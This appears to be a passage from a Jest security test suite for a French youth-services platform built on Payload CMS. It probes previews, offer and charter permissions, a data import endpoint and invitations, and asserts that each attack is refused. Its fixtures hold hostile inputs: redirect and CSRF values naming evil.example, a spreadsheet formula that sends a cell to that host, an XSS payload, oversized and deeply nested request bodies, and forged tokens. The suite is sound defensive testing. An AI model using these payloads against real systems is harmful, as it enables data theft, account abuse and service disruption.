import { beforeAll, describe, expect, it } from '@jest/globals'
import { REST_POST, REST_PUT } from '@payloadcms/next/routes'
import { NextRequest } from 'next/server'
import type { Payload } from 'payload'

import { duplicateForTerritory } from '../../src/admin/workflows/questionnaires/duplicateForTerritory'
import { inviteProfessional } from '../../src/admin/workflows/users/inviteProfessional'
import { withoutRowIds } from '../../src/domain/shared/rowIds'
import { catalogue } from '../../src/plugins/boussole/catalogue/catalogue'
import { candidateOffers } from '../../src/plugins/boussole/matching/matchOffers'
import { matchOffers, previewableTerritory, resolveMatchContext } from '../../src/plugins/boussole/server'
import { PREVIEW_COOKIE, previewToken, verifyPreviewToken } from '../../src/security/previewToken'
import { demoSiret } from '../../src/seed/siret'
import { DEMO_ACCOUNTS, DEMO_PASSWORD } from '../../src/seed/users'
import { apiClient, type ApiClient } from '../helpers/api'
import { useTestPayload } from '../helpers/payload'
import { eligibleAnswers } from './leads.fixtures'
import { actor } from './workflows.fixtures'

/**
 * Attack pass on the entry points of issue #13 (second part), as an outsider and as each role outside its perimeter:
 * the preview « Voir comme un jeune », offers offered in other territories and charters of several territories, the
 * data·inclusion import, invitations and « Choisir mon mot de passe », « Dupliquer pour mon territoire », the opening.
 * Each probe asserts the safe behaviour: a precise 4xx (French), nothing written.
 */
const context = useTestPayload()
let payload: Payload
let api: ApiClient
// The preview's route handlers, imported once Payload is initialised (they load the config, which reads DATABASE_URL).
let startPreview: typeof import('../../src/app/(frontend)/apercu/[territoire]/route').GET
let leavePreview: typeof import('../../src/app/(frontend)/apercu/quitter/route').GET
const options = { overrideAccess: true, depth: 0 } as const
const REIMS_ANIMATOR = 'animatrice.attaque.reims@boussole.test'
const REIMS_PASSWORD = 'Marne-Champagne-2027!'
const REIMS_COMMUNE = '51454'
const tokens = {} as Record<'admin' | 'animatorLot' | 'animatorSicoval' | 'partnerLot' | 'partnerCrij' | 'animatorReims', string>
let ids: {
  lot: number
  sicoval: number
  montpellier: number
  reims: number
  crij: number
  mlLot: number
  mlSicoval: number
  crijCharter: number
  lotCharter: number
  orientation: number
  orientationRow: number
  crijOther: number
  animatorReims: number
}

const messages = (json: any): string => JSON.stringify(json?.errors ?? json)
const one = async (collection: 'territories' | 'partners' | 'offers', field: string, value: string) =>
  Number((await payload.find({ collection, where: { [field]: { equals: value } }, limit: 1, ...options })).docs[0].id)
const count = async (collection: 'partners' | 'offers' | 'users' | 'questionnaires' | 'offer-territories' | 'charters' | 'searches' | 'leads') =>
  (await payload.count({ collection, overrideAccess: true })).totalDocs

beforeAll(async () => {
  payload = context.payload
  api = apiClient(payload)
  startPreview = (await import('../../src/app/(frontend)/apercu/[territoire]/route')).GET
  leavePreview = (await import('../../src/app/(frontend)/apercu/quitter/route')).GET
  ids = {
    lot: await one('territories', 'slug', 'lot'),
    sicoval: await one('territories', 'slug', 'sicoval'),
    montpellier: await one('territories', 'slug', 'montpellier-mediterranee-metropole'),
    reims: await one('territories', 'slug', 'grand-reims'),
    crij: await one('partners', 'name', 'CRIJ Occitanie — Montpellier'),
    mlLot: await one('partners', 'name', 'Mission Locale du Lot'),
    mlSicoval: await one('partners', 'name', 'Mission Locale Haute-Garonne — antenne Sicoval'),
    orientation: await one('offers', 'title', 'S’orienter : un entretien avec un informateur jeunesse'),
  } as typeof ids
  const charters = await payload.find({ collection: 'charters', where: { partner: { in: [ids.crij, ids.mlLot] } }, pagination: false, ...options })
  ids.crijCharter = charters.docs.find((charter) => charter.partner === ids.crij && (charter.territories ?? []).length > 1)!.id
  ids.lotCharter = charters.docs.find((charter) => charter.partner === ids.mlLot)!.id
  const rows = await payload.find({ collection: 'offer-territories', where: { offer: { equals: ids.orientation } }, limit: 1, ...options })
  ids.orientationRow = rows.docs[0].id
  // An unpublished offer of the CRIJ at home (Montpellier), proposed nowhere: it must stay invisible to other territories.
  const source = await payload.findByID({ collection: 'offers', id: ids.orientation, ...options })
  const {
    id: _id,
    createdAt: _createdAt,
    updatedAt: _updatedAt,
    offerTerritories: _rows,
    ...content
  } = source as typeof source & { offerTerritories?: unknown }
  ids.crijOther = (
    await payload.create({
      collection: 'offers',
      data: { ...withoutRowIds(content), title: 'Brouillon du CRIJ pour Montpellier', status: 'brouillon' } as never,
      ...options,
    })
  ).id
  ids.animatorReims = (
    await payload.create({
      collection: 'users',
      data: { email: REIMS_ANIMATOR, password: REIMS_PASSWORD, name: 'Animatrice Reims', role: 'animator', territories: [ids.reims] } as never,
      ...options,
    })
  ).id
  tokens.admin = await api.login(DEMO_ACCOUNTS.admin, DEMO_PASSWORD)
  tokens.animatorLot = await api.login(DEMO_ACCOUNTS.animatorLot, DEMO_PASSWORD)
  tokens.animatorSicoval = await api.login(DEMO_ACCOUNTS.animatorSicoval, DEMO_PASSWORD)
  tokens.partnerLot = await api.login(DEMO_ACCOUNTS.partnerMissionLocaleLot, DEMO_PASSWORD)
  tokens.partnerCrij = await api.login(DEMO_ACCOUNTS.partnerCrij, DEMO_PASSWORD)
  tokens.animatorReims = await api.login(REIMS_ANIMATOR, REIMS_PASSWORD)
})

/* ---------- « Voir comme un jeune » ---------- */

const previewRequest = (path: string, headers: Record<string, string> = {}) => new NextRequest(new URL(`http://localhost:3000${path}`), { headers })
const startAs = (territory: string, token?: string) =>
  startPreview(previewRequest(`/apercu/${territory}`, token ? { Authorization: `JWT ${token}` } : {}), { params: Promise.resolve({ territoire: territory }) })

describe('the preview « Voir comme un jeune »', () => {
  it('is refused (404, no cookie) to the public, a partner, another territory’s animator, for an open territory or a malformed id', async () => {
    for (const [territory, token] of [
      [String(ids.reims), undefined],
      [String(ids.reims), tokens.partnerLot],
      [String(ids.reims), tokens.animatorLot],
      [String(ids.lot), tokens.admin],
      [String(ids.lot), tokens.animatorLot],
      ['99999999', tokens.admin],
      ['1e3', tokens.admin],
      [`${ids.reims}%00`, tokens.admin],
    ] as const) {
      const response = await startAs(territory, token)
      expect([territory, response.status]).toEqual([territory, 404])
      expect(response.headers.get('set-cookie')).toBeNull()
    }
  })

  it('for the territory’s animator: a signed cookie, HttpOnly, for that person only, never cached, a relative redirect', async () => {
    const response = await startAs(String(ids.reims), tokens.animatorReims)
    expect(response.status).toBe(303)
    expect(response.headers.get('location')).toBe(`/commune/${REIMS_COMMUNE}`)
    expect(response.headers.get('cache-control')).toBe('private, no-store')
    const cookie = response.headers.get('set-cookie') ?? ''
    expect(cookie).toMatch(new RegExp(`^${PREVIEW_COOKIE}=`))
    expect(cookie).toMatch(/HttpOnly/i)
    expect(cookie).toMatch(/SameSite=lax/i)
    const value = decodeURIComponent(cookie.split(';')[0].split('=')[1])
    expect(verifyPreviewToken(payload.secret, value, new Date())).toEqual({ territoryId: ids.reims, userId: ids.animatorReims })
  })

  it('a deactivated animator of the territory gets a 404', async () => {
    const inactive = await actor(payload, REIMS_ANIMATOR)
    expect(await previewableTerritory(payload, { ...inactive, active: false }, ids.reims)).toBeNull()
  })

  it('a cookie of another territory or re-signed for another person is worth nothing: the claim is checked against the session', async () => {
    const now = new Date()
    // The Lot's animator holding a (validly signed) cookie naming the Grand Reims: not their territory.
    expect(await previewableTerritory(payload, await actor(payload, DEMO_ACCOUNTS.animatorLot), ids.reims)).toBeNull()
    const token = previewToken(payload.secret, { territoryId: ids.reims, userId: ids.animatorReims }, now)
    const [territory, user, expires, signature] = token.split('.')
    expect(verifyPreviewToken(payload.secret, [ids.lot, user, expires, signature].join('.'), now)).toBeNull()
    expect(verifyPreviewToken(payload.secret, [territory, user, Number(expires) + 86_400, signature].join('.'), now)).toBeNull()
    expect(verifyPreviewToken(payload.secret, `${token}.x`, now)).toBeNull()
    expect(verifyPreviewToken(payload.secret, token.toUpperCase(), now)).toBeNull()
  })

  it('a preview search writes nothing and never reaches the shared (public) catalogue', async () => {
    const before = [await count('searches'), await count('leads')]
    const preview = await matchOffers(payload, { commune: REIMS_COMMUNE, theme: 'emploi', answers: eligibleAnswers }, { preview: { territoryId: ids.reims } })
    expect(preview.territory.slug).toBe('grand-reims')
    expect([await count('searches'), await count('leads')]).toEqual(before)
    // The shared catalogue (what every public page and the JSON API read) still ignores the territory.
    await expect(resolveMatchContext(payload, REIMS_COMMUNE, 'emploi')).rejects.toMatchObject({ status: 404 })
    await expect(matchOffers(payload, { commune: REIMS_COMMUNE, theme: 'emploi', answers: eligibleAnswers })).rejects.toMatchObject({ status: 404 })
    const shared = await catalogue.get(payload)
    const reimsCommune = (await payload.find({ collection: 'communes', where: { code: { equals: REIMS_COMMUNE } }, limit: 1, ...options })).docs[0].id
    expect(shared.territoryOfCommune(reimsCommune)).toBeNull()
  })

  it('leaving the preview drops the cookie and never redirects elsewhere than the site', async () => {
    for (const [query, location] of [
      [`territoire=${ids.reims}`, `/admin/collections/territories/${ids.reims}/ouverture`],
      ['territoire=//evil.example', '/'],
      ['territoire=https://evil.example', '/'],
      [`territoire=${ids.reims}%2F..%2F..%2F..%2Fevil`, '/'],
      ['', '/'],
    ]) {
      const response = leavePreview(previewRequest(`/apercu/quitter?${query}`))
      expect([query, response.status, response.headers.get('location')]).toEqual([query, 303, location])
      expect(response.headers.get('set-cookie')).toMatch(new RegExp(`^${PREVIEW_COOKIE}=;`))
    }
  })
})

/* ---------- Offers offered in other territories, charters of several territories ---------- */

describe('offer-territories through REST and GraphQL', () => {
  it('the public reads nothing (REST 403, GraphQL no rows)', async () => {
    const rest = await api.get('/offer-territories')
    expect(rest.status).toBe(403)
    const graphql = await api.graphql('{ OfferTerritories { docs { id } } }')
    expect(graphql.json.data?.OfferTerritories?.docs ?? []).toEqual([])
  })

  it('another territory’s animator and another organisation read none of the rows', async () => {
    for (const token of [tokens.animatorLot, tokens.partnerLot, tokens.animatorReims]) {
      const rest = await api.get('/offer-territories?limit=0', token)
      expect(rest.json.docs ?? []).toEqual([])
      expect((await api.get(`/offer-territories/${ids.orientationRow}`, token)).status).toBe(404)
      const graphql = await api.graphql(`{ OfferTerritories { docs { id } } }`, token)
      expect(graphql.json.data?.OfferTerritories?.docs ?? []).toEqual([])
    }
  })

  it('the organisation cannot decide its own proposal nor forge who decided (403, nothing changes)', async () => {
    const before = await payload.findByID({ collection: 'offer-territories', id: ids.orientationRow, ...options })
    for (const body of [
      { status: 'refusee' },
      { decidedBy: ids.animatorReims },
      { decidedAt: '2020-01-01T00:00:00.000Z' },
      { comment: 'Validée par nous-mêmes' },
    ]) {
      const response = await api.patch(`/offer-territories/${ids.orientationRow}?depth=0`, body, tokens.partnerCrij)
      expect(response.status).toBe(403)
    }
    const graphql = await api.graphql(
      `mutation { updateOfferTerritory(id: ${ids.orientationRow}, data: { status: refusee }) { id status } }`,
      tokens.partnerCrij,
    )
    expect(graphql.json.data?.updateOfferTerritory ?? null).toBeNull()
    expect(await payload.findByID({ collection: 'offer-territories', id: ids.orientationRow, ...options })).toMatchObject({
      status: before.status,
      decidedBy: before.decidedBy,
      decidedAt: before.decidedAt,
      comment: before.comment ?? null,
    })
  })

  it('the deciding animator cannot set who decided, nor move the row to another territory or offer', async () => {
    const forged = await api.patch(
      `/offer-territories/${ids.orientationRow}?depth=0`,
      { comment: 'ok', decidedBy: ids.animatorReims, decidedAt: '2020-01-01T00:00:00.000Z', partner: ids.mlLot, homeTerritory: ids.lot },
      tokens.animatorSicoval,
    )
    expect(forged.status).toBe(200)
    expect(forged.json.doc.decidedBy).not.toBe(ids.animatorReims)
    expect(forged.json.doc.decidedAt).not.toBe('2020-01-01T00:00:00.000Z')
    expect(forged.json.doc).toMatchObject({ partner: ids.crij, homeTerritory: ids.montpellier })
    const moved = await api.patch(`/offer-territories/${ids.orientationRow}?depth=0`, { territory: ids.lot }, tokens.animatorSicoval)
    expect(moved.status).toBe(400)
    expect(messages(moved.json)).toMatch(/On ne change pas le territoire d’une proposition/)
    const other = await api.patch(`/offer-territories/${ids.orientationRow}?depth=0`, { offer: ids.crijOther }, tokens.animatorSicoval)
    expect(other.status).toBe(400)
    expect(messages(other.json)).toMatch(/On ne change pas l’offre d’une proposition/)
  })

  it('an animator of neither territory cannot propose an offer (400, French), and a proposal cannot be created already decided by a partner', async () => {
    const before = await count('offer-territories')
    const lot = await api.post('/offer-territories?depth=0', { offer: ids.crijOther, territory: ids.sicoval }, tokens.animatorLot)
    expect(lot.status).toBe(400)
    expect(messages(lot.json)).toMatch(/Vous n’animez ni le territoire de cette offre ni « Sicoval »/)
    const anonymous = await api.post('/offer-territories?depth=0', { offer: ids.crijOther, territory: ids.sicoval })
    expect(anonymous.status).toBe(403)
    const forged = await api.post(
      '/offer-territories?depth=0',
      { offer: ids.crijOther, territory: ids.sicoval, status: 'validee', decidedBy: ids.animatorReims },
      tokens.partnerCrij,
    )
    expect(forged.status).toBe(400)
    expect(messages(forged.json)).toMatch(/revient à l’animation de ce territoire/)
    expect(await count('offer-territories')).toBe(before)
  })

  it('the new read access opens no offer of another territory: no draft, no `?draft=true`, no version', async () => {
    for (const token of [tokens.animatorLot, tokens.animatorReims, tokens.partnerLot]) {
      expect((await api.get(`/offers/${ids.crijOther}?depth=0`, token)).status).toBe(404)
      expect((await api.get(`/offers/${ids.crijOther}?depth=0&draft=true`, token)).status).toBe(404)
      const versions = await api.get(`/offers/versions?where[parent][equals]=${ids.crijOther}&limit=0`, token)
      expect(versions.json.docs ?? []).toEqual([])
    }
    // The Sicoval's animation reads the offer proposed there, but not its history (the home territory's and the organisation's).
    const versions = await api.get(`/offers/versions?where[parent][equals]=${ids.orientation}&limit=0`, tokens.animatorSicoval)
    expect(versions.json.docs ?? []).toEqual([])
    expect((await api.get(`/offers/${ids.crijOther}?depth=0&draft=true`, tokens.animatorSicoval)).status).toBe(404)
    // An animator cannot open that read access by proposing another territory's offer in their own territory.
    const selfProposed = await api.post('/offer-territories?depth=0', { offer: ids.crijOther, territory: ids.lot }, tokens.animatorLot)
    expect(selfProposed.status).toBe(400)
    expect(messages(selfProposed.json)).toMatch(/proposée dans « Lot » par son organisme ou par l’animation de son territoire/)
    expect((await api.get(`/offers/${ids.crijOther}?depth=0&draft=true`, tokens.animatorLot)).status).toBe(404)
  })

  it('an unpublished offer validated in another territory is still served nowhere', async () => {
    // The Sicoval's animation does not pick another territory's offer itself (it would open its drafts to it).
    const picked = await api.post('/offer-territories?depth=0', { offer: ids.crijOther, territory: ids.sicoval }, tokens.animatorSicoval)
    expect(picked.status).toBe(400)
    expect(messages(picked.json)).toMatch(/par son organisme ou par l’animation de son territoire/)
    expect((await api.get(`/offers/${ids.crijOther}?depth=0&draft=true`, tokens.animatorSicoval)).status).toBe(404)
    // Proposed by its organisation and validated there, the offer still unpublished at home is served nowhere.
    const proposed = await api.post('/offer-territories?depth=0', { offer: ids.crijOther, territory: ids.sicoval }, tokens.partnerCrij)
    expect(proposed.status).toBe(201)
    const validated = await api.patch(`/offer-territories/${proposed.json.doc.id}?depth=0`, { status: 'validee' }, tokens.animatorSicoval)
    expect(validated.status).toBe(200)
    const { theme } = await payload.findByID({ collection: 'offers', id: ids.crijOther, ...options })
    const context = await resolveMatchContext(payload, '31446', theme)
    expect((await candidateOffers(payload, context, new Date())).map((offer) => offer.id)).not.toContain(ids.crijOther)
  })
})

describe('charters of several territories', () => {
  it('an animator cannot add a territory they do not run to a charter, nor create one covering it (400, French); nothing changes', async () => {
    const before = await payload.findByID({ collection: 'charters', id: ids.lotCharter, ...options })
    const added = await api.patch(`/charters/${ids.lotCharter}?depth=0`, { territories: [ids.lot, ids.sicoval] }, tokens.animatorLot)
    expect(added.status).toBe(400)
    expect(messages(added.json)).toMatch(/ne fait pas partie de ceux que vous animez/)
    const swapped = await api.patch(`/charters/${ids.lotCharter}?depth=0`, { territories: [ids.sicoval] }, tokens.animatorLot)
    expect(swapped.status).toBe(400)
    const created = await api.post(
      '/charters?depth=0',
      { partner: ids.mlLot, territories: [ids.lot, ids.reims], version: '2026-1', status: 'en_attente' },
      tokens.animatorLot,
    )
    expect(created.status).toBe(400)
    expect((await payload.findByID({ collection: 'charters', id: ids.lotCharter, ...options })).territories).toEqual(before.territories)
  })

  it('the animator of one of a charter’s territories cannot change it (the other territory is not theirs), a partner cannot at all', async () => {
    const before = await payload.findByID({ collection: 'charters', id: ids.crijCharter, ...options })
    // Sending only their own territory would take the charter out of Montpellier (the CRIJ's home): refused.
    const sicoval = await api.patch(`/charters/${ids.crijCharter}?depth=0`, { territories: [ids.sicoval] }, tokens.animatorSicoval)
    expect(sicoval.status).toBe(400)
    expect(messages(sicoval.json)).toMatch(/couvre aussi un territoire que vous n’animez pas/)
    const status = await api.patch(`/charters/${ids.crijCharter}?depth=0`, { status: 'resiliee', endedAt: '2026-12-01' }, tokens.animatorSicoval)
    expect(status.status).toBe(400)
    for (const body of [{ status: 'resiliee' }, { territories: [ids.montpellier, ids.sicoval, ids.lot] }]) {
      expect((await api.patch(`/charters/${ids.crijCharter}?depth=0`, body, tokens.partnerCrij)).status).toBe(403)
    }
    expect((await api.post('/charters?depth=0', { partner: ids.crij, territories: [ids.lot], version: '2026-1' }, tokens.partnerCrij)).status).toBe(403)
    const after = await payload.findByID({ collection: 'charters', id: ids.crijCharter, ...options })
    expect([after.status, after.territories]).toEqual([before.status, before.territories])
    // The Lot's animation does not even read it.
    expect((await api.get(`/charters/${ids.crijCharter}`, tokens.animatorLot)).status).toBe(404)
  })

  it('the same for an organisation in several territories’ networks: one animator cannot take it out of the other', async () => {
    const before = await payload.findByID({ collection: 'partners', id: ids.crij, ...options })
    expect((before.territories as number[]).length).toBeGreaterThan(1)
    const stripped = await api.patch(`/partners/${ids.crij}?depth=0`, { territories: [ids.sicoval] }, tokens.animatorSicoval)
    expect(stripped.status).toBe(400)
    expect(messages(stripped.json)).toMatch(/couvre aussi un territoire que vous n’animez pas/)
    expect((await payload.findByID({ collection: 'partners', id: ids.crij, ...options })).territories).toEqual(before.territories)
  })
})

/* ---------- The data·inclusion import ---------- */

let sequence = 0
const newSiret = () => demoSiret(String(73_000_000 + (process.pid % 100_000) * 10 + sequence++).slice(0, 8), String(3000 + sequence))
const SOURCE = `attaque-${process.pid}`
const structure = (id: string, fields: Record<string, unknown> = {}) => ({
  source: SOURCE,
  id,
  nom: `Structure ${id}`,
  date_maj: '2026-11-02',
  description: 'Une structure d’accompagnement des jeunes du département.',
  lien_source: null,
  siret: newSiret(),
  commune: 'Cahors',
  code_postal: '46000',
  code_insee: '46042',
  adresse: '12 rue du Château du Roi',
  complement_adresse: null,
  longitude: null,
  latitude: null,
  telephone: '+33565001122',
  courriel: `accueil-${id}@structure.test`,
  site_web: 'https://structure.test',
  horaires_accueil: null,
  accessibilite_lieu: null,
  reseaux_porteurs: null,
  ...fields,
})

type Body = BodyInit | FormData
const importPath = (query: string) => `/boussole/data-inclusion/import?${query}`
async function send(method: 'POST' | 'PUT', path: string, body: Body, headers: Record<string, string> = {}) {
  const url = new URL(`http://localhost:3000/api${path}`)
  const handler = method === 'POST' ? REST_POST(payload.config) : REST_PUT(payload.config)
  const init = { method, headers, body, ...(body instanceof ReadableStream ? { duplex: 'half' } : {}) } as RequestInit
  const response = await handler(new Request(url, init), {
    params: Promise.resolve({ slug: url.pathname.replace(/^\/api\//, '').split('/') }),
  })
  const text = await response.text()
  let json: any = null
  try {
    json = text ? JSON.parse(text) : null
  } catch {
    json = { raw: text }
  }
  return { status: response.status, json, allow: response.headers.get('allow') }
}
const importAs = (token: string | undefined, body: Body, query = 'territory=lot&mode=preview', headers: Record<string, string> = {}) =>
  send('POST', importPath(query), body, { 'Content-Type': 'application/json', ...(token ? { Authorization: `JWT ${token}` } : {}), ...headers })
const written = async () => [await count('partners'), await count('offers')]

describe('the data·inclusion import with hostile requests', () => {
  it('answers only POST: GET and PUT are not an import (4xx, nothing written)', async () => {
    const before = await written()
    const get = await api.get(importPath('territory=lot&mode=commit'), tokens.animatorLot)
    expect(get.status).toBe(405)
    expect(messages(get.json)).toContain('Cette adresse ne répond qu’aux requêtes POST.')
    const put = await send('PUT', importPath('territory=lot&mode=commit'), JSON.stringify([structure('put')]), {
      'Content-Type': 'application/json',
      Authorization: `JWT ${tokens.animatorLot}`,
    })
    expect([put.status, put.allow]).toEqual([405, 'POST'])
    expect(await written()).toEqual(before)
  })

  it('a chunked upload without Content-Length is cut at 2 MB (413): the rest is never read', async () => {
    const boundary = 'boussole-attaque'
    const head = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="infini.json"\r\nContent-Type: application/json\r\n\r\n[`
    const chunk = new TextEncoder().encode('"x",'.repeat(16 * 1024))
    let pulled = 0
    const endless = new ReadableStream<Uint8Array>({
      start: (controller) => controller.enqueue(new TextEncoder().encode(head)),
      pull: (controller) => {
        // 64 KiB a chunk, up to 64 MB if the server kept reading.
        if (pulled > 64 * 1024 * 1024) return controller.close()
        pulled += chunk.byteLength
        controller.enqueue(chunk)
      },
    })
    const before = await written()
    const response = await send('POST', importPath('territory=lot&mode=commit'), endless, {
      'Content-Type': `multipart/form-data; boundary=${boundary}`,
      Authorization: `JWT ${tokens.animatorLot}`,
    })
    expect(response.status).toBe(413)
    expect(messages(response.json)).toMatch(/trop volumineux \(2 Mo au plus\)/)
    expect(pulled).toBeLessThan(3 * 1024 * 1024)
    expect(await written()).toEqual(before)
  })

  it('a malformed multipart body is a 400 in French, not a 500', async () => {
    const response = await send('POST', importPath('territory=lot&mode=preview'), '--x\r\nnot a part', {
      'Content-Type': 'multipart/form-data; boundary=x',
      Authorization: `JWT ${tokens.animatorLot}`,
    })
    expect(response.status).toBe(400)
    expect(messages(response.json)).toMatch(/Joignez le fichier data·inclusion/)
  })

  it('refuses a mode other than preview or commit, and a territory that is not the caller’s or does not exist', async () => {
    const document = JSON.stringify([structure('mode')])
    const mode = await importAs(tokens.animatorLot, document, 'territory=lot&mode=force')
    expect(mode.status).toBe(400)
    expect(messages(mode.json)).toMatch(/Le mode doit être « preview »/)
    const other = await importAs(tokens.animatorLot, document, 'territory=sicoval&mode=commit')
    expect(other.status).toBe(403)
    expect(messages(other.json)).toMatch(/l’animation du territoire « Sicoval »/)
    const reims = await importAs(tokens.animatorReims, document, 'territory=lot&mode=commit')
    expect(reims.status).toBe(403)
    const unknown = await importAs(tokens.animatorLot, document, 'territory=nulle-part&mode=commit')
    expect(unknown.status).toBe(404)
    const partner = await importAs(tokens.partnerLot, document, 'territory=lot&mode=commit')
    expect(partner.status).toBe(403)
  })

  it('a signed-in session cookie posted from another site is not a session (401, nothing written)', async () => {
    const before = await written()
    const document = JSON.stringify([structure('csrf')])
    const cookie = `payload-token=${tokens.animatorLot}`
    const foreign = await importAs(undefined, document, 'territory=lot&mode=commit', { Cookie: cookie, Origin: 'https://evil.example' })
    expect(foreign.status).toBe(401)
    expect(messages(foreign.json)).toMatch(/Connectez-vous/)
    const nullOrigin = await importAs(undefined, document, 'territory=lot&mode=commit', { Cookie: cookie, Origin: 'null' })
    expect(nullOrigin.status).toBe(401)
    const crossSite = await importAs(undefined, document, 'territory=lot&mode=commit', { Cookie: cookie, 'Sec-Fetch-Site': 'cross-site' })
    expect(crossSite.status).toBe(401)
    expect(await written()).toEqual(before)
    // The same cookie from the site itself is a session (the refusals above are the origin's).
    const own = await importAs(undefined, document, 'territory=lot&mode=preview', { Cookie: cookie, Origin: payload.config.serverURL })
    expect(own.status).toBe(200)
  })

  it('refuses a huge file (413), raw or as a multipart file, before reading its lines', async () => {
    const huge = `[${JSON.stringify(structure('grand')).repeat(1)}, ${'"x",'.repeat(600_000)} "y"]`
    expect(huge.length).toBeGreaterThan(2 * 1024 * 1024)
    const raw = await importAs(tokens.animatorLot, huge)
    expect(raw.status).toBe(413)
    expect(messages(raw.json)).toMatch(/trop volumineux/)
    const form = new FormData()
    form.append('file', new Blob([huge], { type: 'application/json' }), 'enorme.json')
    const multipart = await send('POST', importPath('territory=lot&mode=preview'), form, { Authorization: `JWT ${tokens.animatorLot}` })
    expect(multipart.status).toBe(413)
  })

  it('a deeply nested JSON and more than 500 lines are 400s, never a 500', async () => {
    const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`
    const nested = await importAs(tokens.animatorLot, deep)
    // Read as one element that is not an object: a refused line, in words (a commit would write nothing).
    expect(nested.status).toBe(200)
    expect(nested.json.lines.map((line: { outcome: string }) => line.outcome)).toEqual(['refuse'])
    expect(nested.json.lines[0].messages.join(' ')).toMatch(/n’est pas un objet JSON/)
    const deepObject = await importAs(tokens.animatorLot, `{"structures": [${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}]}`)
    expect([deepObject.status, deepObject.json.counts?.refused]).toEqual([200, 1])
    expect((await importAs(tokens.animatorLot, deep, 'territory=lot&mode=commit')).status).toBe(422)
    const many = await importAs(tokens.animatorLot, JSON.stringify(Array.from({ length: 501 }, (_, index) => ({ id: String(index), nom: 'x' }))))
    expect(many.status).toBe(400)
    expect(messages(many.json)).toMatch(/501 lignes/)
  })

  it('formulas and HTML in names are stored as plain text and never run (the CSV writer guards exports)', async () => {
    const formula = '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")'
    const html = '<img src=x onerror=alert(1)> Structure'
    const csv = [
      'id,nom,siret,source,date_maj,code_insee,commune,code_postal',
      `f1,"${formula.replaceAll('"', '""')}",${newSiret()},${SOURCE},2026-11-02,46042,Cahors,46000`,
    ].join('\n')
    const fromCsv = await importAs(tokens.animatorLot, csv, 'territory=lot&mode=commit', { 'Content-Type': 'text/csv' })
    expect(fromCsv.status).toBeLessThan(500)
    const fromJson = await importAs(tokens.animatorLot, JSON.stringify([structure('h1', { nom: html })]), 'territory=lot&mode=commit')
    expect(fromJson.status).toBeLessThan(500)
    const { toCsv } = await import('../../src/domain/shared/csv')
    for (const response of [fromCsv, fromJson]) {
      for (const line of response.json?.lines ?? []) {
        const id = line.created?.partner
        if (!id) continue
        const partner = await payload.findByID({ collection: 'partners', id, ...options })
        // Kept as text: React escapes it on every page; an export cell never starts a formula.
        expect(toCsv(['nom'], [[partner.name]])).not.toMatch(/\n[=+\-@]/)
      }
    }
  })

  it('the SIRET of another territory’s organisation is refused in words; the commit writes nothing and leaves it untouched', async () => {
    const siret = (await payload.findByID({ collection: 'partners', id: ids.mlSicoval, ...options })).siret
    const before = await written()
    const sicovalBefore = await payload.findByID({ collection: 'partners', id: ids.mlSicoval, ...options })
    const document = JSON.stringify({ structures: [structure('ok-1'), structure('autre', { siret, nom: 'Reprise par le Lot' })], services: [] })
    const preview = await importAs(tokens.animatorLot, document)
    expect(preview.status).toBe(200)
    expect(preview.json.lines.map((line: { outcome: string }) => line.outcome)).toEqual(['creer', 'refuse'])
    expect(preview.json.lines[1].messages.join(' ')).toMatch(/ne fait pas partie du réseau du territoire « Lot »/)
    const commit = await importAs(tokens.animatorLot, document, 'territory=lot&mode=commit')
    expect(commit.status).toBe(422)
    expect(commit.json.created).toEqual({ partners: 0, offers: 0 })
    expect(await written()).toEqual(before)
    const sicovalAfter = await payload.findByID({ collection: 'partners', id: ids.mlSicoval, ...options })
    expect([sicovalAfter.name, sicovalAfter.territories]).toEqual([sicovalBefore.name, sicovalBefore.territories])
  })
})

/* ---------- Invitations and « Choisir mon mot de passe » ---------- */

const userCount = async (email: string) => (await payload.count({ collection: 'users', where: { email: { equals: email } }, overrideAccess: true })).totalDocs
const storedToken = async (id: number) =>
  ((await payload.db.findOne({ collection: 'users', where: { id: { equals: id } } })) as { resetPasswordToken?: string | null }).resetPasswordToken

describe('invitations', () => {
  it('an animator cannot invite into another territory’s organisation; a partner cannot invite; nothing is created', async () => {
    const email = 'intrus.sicoval@example.org'
    const lot = await actor(payload, DEMO_ACCOUNTS.animatorLot)
    const intruder = await inviteProfessional(payload, lot, { name: 'Intrus', email, partner: ids.mlSicoval }).catch((error: any) => error)
    expect(intruder.status).toBe(400)
    expect(JSON.stringify(intruder.data)).toMatch(/ne fait partie d'aucun de vos territoires/)
    const partner = await actor(payload, DEMO_ACCOUNTS.partnerMissionLocaleLot)
    const refused = await inviteProfessional(payload, partner, { name: 'Collègue', email, partner: ids.mlLot }).catch((error: any) => error)
    expect(refused.status).toBe(403)
    expect(refused.message).toMatch(/autoris/)
    expect(await userCount(email)).toBe(0)
  })

  it('the form’s fields cannot escalate: role admin refused, territories and activity ignored for a professional', async () => {
    const lot = await actor(payload, DEMO_ACCOUNTS.animatorLot)
    await expect(
      inviteProfessional(payload, lot, { name: 'Admin', email: 'admin.force@example.org', role: 'admin' as never, partner: ids.mlLot }),
    ).rejects.toMatchObject({ status: 400 })
    await expect(
      inviteProfessional(payload, lot, { name: 'Anim', email: 'anim.force@example.org', role: 'animator', territories: [ids.lot] }),
    ).rejects.toMatchObject({ status: 403 })
    const created = await inviteProfessional(payload, lot, {
      name: 'Pro du Lot',
      email: 'pro.force@example.org',
      partner: ids.mlLot,
      territories: [ids.sicoval],
      ...({ active: true, password: 'Boussole-Force-2026!', resetPasswordToken: 'a'.repeat(40) } as object),
    } as never)
    expect(created).toMatchObject({ role: 'partner', partner: ids.mlLot })
    expect(created.territories ?? []).toEqual([])
    expect((await api.post('/users/login', { email: 'pro.force@example.org', password: 'Boussole-Force-2026!' })).status).toBe(401)
    expect(await storedToken(created.id)).not.toBe('a'.repeat(40))
    for (const email of ['admin.force@example.org', 'anim.force@example.org']) expect(await userCount(email)).toBe(0)
  })

  it('inviting an existing address is refused (400, French) and does not touch that account’s links', async () => {
    const lot = await actor(payload, DEMO_ACCOUNTS.animatorLot)
    const target = await actor(payload, DEMO_ACCOUNTS.partnerMissionLocaleLot)
    const before = await storedToken(target.id)
    const refused = await inviteProfessional(payload, lot, { name: 'Doublon', email: DEMO_ACCOUNTS.partnerMissionLocaleLot, partner: ids.mlLot }).catch(
      (error: any) => error,
    )
    expect(refused.status).toBe(400)
